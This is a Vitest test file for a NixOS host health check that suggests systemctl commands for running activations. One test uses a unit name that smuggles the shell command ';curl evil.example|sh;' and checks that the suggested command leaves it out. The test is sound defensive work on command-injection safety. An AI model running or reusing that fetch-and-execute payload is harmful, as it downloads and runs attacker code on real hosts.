import { expect, test } from "vitest";
import { hostChecks } from "../../src/doctor/host-checks.ts";
import type { Address } from "../../src/target/address.ts";
import type { Observation } from "../../src/target/observation.ts";

const at = new Date("2026-11-22T12:00:00Z");
const address = {
  host: "web1",
  user: "root",
  hostname: "web1.example.org",
  port: 22,
  sudo: false,
  hostKeys: [],
  jump: [],
  identity: { name: "web1", machineId: undefined },
};
const observation = {
  identity: { name: "web1", machineId: undefined },
  at,
  isNixos: true,
  current: "/nix/store/system",
  systemState: "running",
  failedUnits: [],
  activations: [],
  space: {},
};
const health = (more: Partial<Observation>) =>
  hostChecks({
    address: address as unknown as Address,
    observation: { ...observation, ...more } as unknown as Observation,
    records: undefined,
    asked: at,
    answered: at,
  }).find(({ code }) => code === "health");

test("an activation that runs is told, with the command to look at it", () => {
  expect(health({ activations: ["nixos-rebuild-switch-to-configuration.service"] })).toMatchObject({
    state: "warn",
    next: expect.stringContaining("systemctl status 'nixos-rebuild-switch-to-configuration.service'") as string,
  });
});

test("a host that lies about a unit's name puts nothing into a command that somebody copies", () => {
  const found = health({ activations: ["nixos-cli-';curl evil.example|sh;'.service"] });
  expect(found).toMatchObject({ state: "warn", next: expect.stringMatching(/systemctl list-jobs$/) as string });
});
